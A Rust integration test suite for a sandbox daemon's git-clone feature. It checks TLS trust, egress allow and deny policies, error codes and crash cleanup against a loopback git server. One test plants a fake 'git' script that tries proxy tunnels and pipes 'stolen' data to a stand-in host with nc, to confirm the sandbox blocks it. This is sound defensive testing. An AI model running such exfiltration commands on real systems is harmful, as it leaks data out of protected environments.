//! Remote repositories: real ones, behind TLS on loopback, cloned by sandboxes that reach nothing else.

use std::io::{BufRead, BufReader, Lines, Write};
use std::net::TcpStream;
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::process::{Child, ChildStdin, ChildStdout, Command, Stdio};

use serde_json::{Value, json};
use tempfile::TempDir;

use super::{Project, SANDBOXES, no_git, on, real_runtimes};
use crate::network::alone::alone;
use crate::registry::server::Tls;
use crate::skip_if;
use crate::support::{Daemon, Patience, Setup, until, until_some};
use crate::templates::images::Image;

const SERVER: &str = include_str!("git_server.py");

fn obstacle() -> Option<&'static str> {
    let python = std::path::Path::new("/usr/bin/python3").exists();
    no_git().or((!python).then_some("there is no python3"))
}

/// A server of one repository, which ends with the test.
pub struct GitServer {
    child: Child,
    stdin: ChildStdin,
    lines: Lines<BufReader<ChildStdout>>,
    tls: Tls,
    port: u16,
    project: Project,
    place: TempDir,
}

/// Hosts that are this machine.
const HOSTS: &str = "127.0.0.1 git.test elsewhere.test\n";

impl GitServer {
    pub fn start() -> Self {
        alone();
        let place = tempfile::Builder::new().prefix("skgit-").tempdir().expect("a directory");
        let (project, tls) = (Project::new(), Tls::make(place.path()));
        project.commit();
        let root = place.path().join("served");
        std::fs::create_dir(&root).expect("a directory");
        let bare = root.join("repo.git");
        project.git(&["clone", "--quiet", "--bare", ".", bare.to_str().expect("text")]);
        let script = place.path().join("server.py");
        std::fs::write(&script, SERVER).expect("a file");
        let mut child = Command::new("setpriv")
            .args(["--pdeathsig", "KILL", "/usr/bin/python3"])
            .arg(&script)
            .arg(&root)
            .args([&tls.certificate, &tls.key])
            .env("HOME", place.path())
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .expect("python3 runs");
        let stdin = child.stdin.take().expect("it is piped");
        let mut lines = BufReader::new(child.stdout.take().expect("it is piped")).lines();
        let said = lines.next().expect("it says where it listens").expect("text");
        let port = said.strip_prefix("port ").and_then(|port| port.parse().ok()).expect("a port");
        std::fs::write(place.path().join("hosts"), HOSTS).expect("a file");
        Self { child, stdin, lines, tls, port, project, place }
    }

    pub fn url(&self, path: &str) -> String {
        format!("https://git.test:{}/{path}", self.port)
    }

    fn ca(&self) -> &str {
        self.tls.ca.to_str().expect("text")
    }

    /// A daemon that knows the host, and may connect to it.
    pub fn known(&self, setup: Setup) -> Setup {
        self.named(setup)
            .argument("--egress-allow-ranges=127.0.0.0/8")
            .argument(&format!("--egress-ca={}", self.ca()))
    }

    fn named(&self, setup: Setup) -> Setup {
        let hosts = self.place.path().join("hosts");
        setup.argument(&format!("--egress-hosts={}", hosts.display()))
    }

    /// Waits until somebody waits to be released.
    fn somebody_waits(&mut self) {
        let waits = self.lines.any(|line| line.expect("text") == "waits");
        assert!(waits, "it has ended");
    }

    fn release(&mut self) {
        self.stdin.write_all(b"go\n").expect("it reads");
    }
}

impl Drop for GitServer {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn spec(url: &str) -> Value {
    json!({ "source": { "git": url, "path": "app" } })
}

fn refused(daemon: &Daemon, status: u16, code: &str, url: &str) -> String {
    let problem = daemon.expect(status, "POST", SANDBOXES, &spec(url));
    assert_eq!(problem["code"], code, "{url}: {problem:#}\n{}", daemon.said());
    assert!(daemon.ids().is_empty(), "{url} left a sandbox");
    problem["detail"].as_str().expect("a detail").to_owned()
}

#[test]
fn a_repository_elsewhere_is_cloned_by_a_sandbox_that_has_no_network_later() {
    skip_if!(obstacle());
    let server = GitServer::start();
    let first = server.project.git(&["rev-parse", "v1"]);
    for storage in ["btrfs", "local"] {
        let daemon = Daemon::start_with(&server.known(on(storage)));
        let look = "cd ~/app && cat notes && git rev-parse --abbrev-ref HEAD && git status --short && \
                    git remote get-url origin && ls -A ~ && stat -c %U .git notes && \
                    git config --list --local | grep -c -e proxy -e ssl";
        for (path, notes, head) in [
            ("repo.git".to_owned(), "of the host", "main"),
            ("renamed".to_owned(), "of the host", "main"),
            ("repo.git#feature".to_owned(), "of the feature", "feature"),
            ("repo.git#v1".to_owned(), "of the host", "HEAD"),
            (format!("repo.git#{first}"), "of the host", "HEAD"),
        ] {
            let url = server.url(&path);
            let id = daemon.create_with(&spec(&url));
            let origin = url.split('#').next().expect("a URL");
            let expected = format!("{notes}\n{head}\n{origin}\napp\nuser\nuser\n0\n");
            assert_eq!(daemon.sh(&id, look).stdout_text(), expected, "{storage} {path}");
            let fetch = "cd ~/app && git -c http.sslVerify=false fetch";
            assert_ne!(daemon.sh(&id, fetch).exit_code, Some(0), "the way out is still there");
            daemon.destroy(&id);
        }
        daemon.assert_no_leaks();
    }
}

#[test]
fn what_cannot_be_cloned_is_told_apart_and_leaves_nothing() {
    skip_if!(obstacle());
    let server = GitServer::start();
    let daemon = Daemon::start_with(&server.known(Setup::default()));
    let url = |path: &str| server.url(path);
    refused(&daemon, 404, "repository_not_found", &url("none.git"));
    refused(&daemon, 403, "repository_private", &url("private"));
    let said = refused(&daemon, 404, "reference_not_found", &url("repo.git#nowhere"));
    assert!(said.contains("nowhere"), "{said}");
    let said = refused(&daemon, 400, "source_invalid", &url("moved"));
    assert!(said.contains("leads to elsewhere.test"), "{said}");
    refused(&daemon, 400, "malformed_body", &format!("https://me:pw@127.0.0.1:{}/x", server.port));
    // The sandbox's variables for proxies and trust are not for the clone.
    let mut misled = spec(&url("repo.git"));
    misled["env"] = json!({ "HTTPS_PROXY": "http://127.0.0.1:1", "no_proxy": "*" });
    let id = daemon.create_with(&misled);
    assert_eq!(daemon.sh(&id, "cat ~/app/notes; echo \"$no_proxy\"").ok(), "of the host\n*");
    daemon.destroy(&id);
    daemon.assert_no_leaks();
}

#[test]
fn nobody_is_called_who_is_not_admitted_or_not_trusted() {
    skip_if!(obstacle());
    let (server, other) = (GitServer::start(), GitServer::start());
    let url = server.url("repo.git");
    let daemon = Daemon::start_with(&server.named(Setup::default()));
    let said = refused(&daemon, 400, "source_invalid", &url);
    assert!(said.contains("egress_allow_ranges"), "{said}");
    let mistaken = server
        .named(Setup::default())
        .argument("--egress-allow-ranges=127.0.0.0/8")
        .argument(&format!("--egress-ca={}", other.ca()));
    let daemon = Daemon::start_with(&mistaken);
    let said = refused(&daemon, 502, "source_unavailable", &url);
    assert!(said.contains("certificate"), "{said}");
    let insisting = json!({ "source": { "git": url }, "env": { "GIT_SSL_NO_VERIFY": "1" } });
    let problem = daemon.expect(502, "POST", SANDBOXES, &insisting);
    assert_eq!(problem["code"], "source_unavailable", "{problem:#}");
    let nobody = std::net::TcpListener::bind("127.0.0.1:0").expect("a port");
    let port = nobody.local_addr().expect("an address").port();
    drop(nobody);
    let closed = format!("https://git.test:{port}/x");
    let said = refused(&daemon, 502, "source_unavailable", &closed);
    assert!(said.contains("does not answer"), "{said}");
    let unknown = refused(&daemon, 502, "source_unavailable", "https://none.test/x");
    assert!(unknown.contains("none.test"), "{unknown}");
    let itself = refused(&daemon, 400, "source_invalid", &format!("https://127.0.0.1:{port}/x"));
    assert!(itself.contains("the sandbox itself"), "{itself}");
    let said = refused(&daemon, 400, "malformed_body", "ssh://git@git.test/x");
    assert!(said.contains("over ssh"), "{said}");
    daemon.assert_no_leaks();
}

#[test]
fn a_clone_stays_within_the_ceiling_and_within_what_the_sandbox_denies() {
    skip_if!(obstacle());
    let server = GitServer::start();
    let url = server.url("repo.git");
    let over = server.known(Setup::default()).argument(r#"--egress-ceiling={"allow":["a.test"]}"#);
    refused(&Daemon::start_with(&over), 403, "network_over_ceiling", &url);
    let none = server.known(Setup::default()).argument("--egress-ceiling=none");
    refused(&Daemon::start_with(&none), 403, "network_over_ceiling", &url);
    let daemon = Daemon::start_with(&server.known(Setup::default()));
    let mut denied = spec(&url);
    denied["network"] = json!({ "allow": ["*"], "deny": ["git.test"] });
    let problem = daemon.expect(400, "POST", SANDBOXES, &denied);
    assert_eq!(problem["code"], "source_invalid", "{problem}");
    assert!(daemon.ids().is_empty());
    // During the clone its host is all that can be reached; later the policy says what can.
    let mut moved = spec(&server.url("moved"));
    moved["network"] =
        json!({ "allow": [format!("elsewhere.test:{}", server.port), "elsewhere.test"] });
    let problem = daemon.expect(400, "POST", SANDBOXES, &moved);
    let said = problem["detail"].as_str().expect("a detail");
    assert!(said.contains("leads to elsewhere.test"), "{said}");
    let mut own = spec(&url);
    own["network"] = json!({ "allow": [format!("elsewhere.test:{}", server.port)] });
    let id = daemon.create_with(&own);
    let fetch = |host: &str| {
        let url = format!("https://{host}:{}/repo.git", server.port);
        daemon.sh(&id, &format!("cd ~/app && git -c http.sslVerify=false fetch {url}")).exit_code
    };
    assert_eq!(fetch("elsewhere.test"), Some(0), "the policy counts now");
    assert_ne!(fetch("git.test"), Some(0), "the clone is over");
    // A sandbox that was cloned without a policy can get one later.
    let bare = daemon.create_with(&spec(&url));
    let target = format!("{SANDBOXES}/{bare}/network");
    daemon.expect(
        200,
        "PATCH",
        &target,
        &json!({ "add_allow": [format!("git.test:{}", server.port)] }),
    );
    let fetch = "cd ~/app && git -c http.sslVerify=false fetch";
    assert_eq!(daemon.sh(&bare, fetch).exit_code, Some(0));
    daemon.verb(&bare, "stop");
    daemon.verb(&bare, "start");
    assert_eq!(daemon.sh(&bare, fetch).exit_code, Some(0));
    let log = daemon.expect(200, "GET", &format!("{target}/log"), &Value::Null);
    let names = log["items"].as_array().expect("a list").iter();
    assert!(
        names.filter(|line| line["name"] == "git.test").count() >= 2,
        "the clone is in the log: {log}"
    );
}

/// A git of the image's own, which tries to talk to somebody else while it should clone.
const GIT: &str = "#!/bin/sh
for place in elsewhere.test:PORT 198.18.0.1:PORT; do
  printf 'CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\nhello' $place $place | nc -w 20 198.18.0.1 3128 >&2
done
echo stolen | nc -w 20 192.0.2.1 PORT >&2
exit 1
";

#[test]
fn a_git_that_is_not_to_be_trusted_reaches_nobody_else_during_its_clone() {
    skip_if!(crate::templates::images::obstacle());
    let server = GitServer::start();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("a port");
    listener.set_nonblocking(true).expect("a listener");
    let port = listener.local_addr().expect("an address").port();
    let image = Image::busybox().layer(|root| {
        std::fs::create_dir(root.join("bin")).expect("a directory");
        let git = GIT.replace("PORT", &port.to_string());
        std::fs::write(root.join("bin/git"), git).expect("a file");
        let mode = std::fs::Permissions::from_mode(0o755);
        std::fs::set_permissions(root.join("bin/git"), mode).expect("a mode");
        for applet in ["nc", "printf"] {
            symlink("busybox", root.join("bin").join(applet)).expect("a link");
        }
    });
    let daemon = Daemon::start_with(&server.known(Setup::default()));
    let body = json!({ "name": "thief", "source": { "docker_archive": image.docker_archive() } });
    daemon.expect(201, "POST", "/api/v1/templates", &body);
    let mut spec = spec(&server.url("repo.git"));
    spec["template"] = json!("thief");
    // What it could reach later it cannot reach now.
    spec["network"] = json!({ "allow": [format!("elsewhere.test:{port}")] });
    let problem = daemon.expect(400, "POST", SANDBOXES, &spec);
    assert_eq!(problem["code"], "source_invalid", "{problem}");
    let said = problem["detail"].as_str().expect("a detail");
    assert!(said.contains("leads to elsewhere.test"), "{said}");
    assert!(listener.accept().is_err(), "somebody came");
    assert!(daemon.ids().is_empty());
    daemon.assert_no_leaks();
}

/// Asks for a sandbox and does not wait for the answer.
fn ask(daemon: &Daemon, spec: &Value) -> TcpStream {
    let (address, body) = (daemon.address(), spec.to_string());
    let mut connection = TcpStream::connect(address).expect("it listens");
    let head = format!(
        "POST {SANDBOXES} HTTP/1.1\r\nhost: {address}\r\ncontent-type: application/json\r\n\
         content-length: {}\r\n\r\n",
        body.len()
    );
    connection.write_all((head + &body).as_bytes()).expect("it reads");
    connection
}

#[test]
fn a_clone_goes_on_when_its_caller_leaves() {
    skip_if!(obstacle());
    let mut server = GitServer::start();
    let daemon = Daemon::start_with(&server.known(Setup::default()));
    let caller = ask(&daemon, &spec(&server.url("slow.git")));
    server.somebody_waits();
    drop(caller);
    server.release();
    let id = until_some("the sandbox runs", Patience::Long, || {
        daemon.ids().into_iter().find(|id| daemon.state(id) == "running")
    });
    assert_eq!(daemon.sh(&id, "cat ~/app/notes").ok(), "of the host");
    daemon.destroy(&id);
    daemon.assert_no_leaks();
}

#[test]
fn a_daemon_that_is_killed_in_the_middle_of_a_clone_leaves_nothing() {
    skip_if!(obstacle());
    let mut server = GitServer::start();
    let setup = server.known(Setup::default());
    let mut daemon = Daemon::start_with(&setup);
    let _caller = ask(&daemon, &spec(&server.url("slow.git")));
    server.somebody_waits();
    daemon.kill_9();
    daemon.start_again(&setup);
    until("what was half-made is gone", Patience::Long, || daemon.ids().is_empty());
    daemon.assert_no_leaks();
    server.release();
    let id = daemon.create_with(&spec(&server.url("repo.git")));
    assert_eq!(daemon.sh(&id, "cat ~/app/notes").ok(), "of the host");
}

#[test]
fn every_runtime_clones_from_elsewhere() {
    skip_if!(obstacle());
    let server = GitServer::start();
    let daemon = Daemon::start_with(&server.known(Setup::default()));
    for name in &real_runtimes(&daemon) {
        let mut spec = spec(&server.url("repo.git"));
        spec["runtime"] = json!(name);
        let id = daemon.create_with(&spec);
        assert_eq!(daemon.sh(&id, "cat ~/app/notes").ok(), "of the host", "{name}");
        daemon.destroy(&id);
    }
}
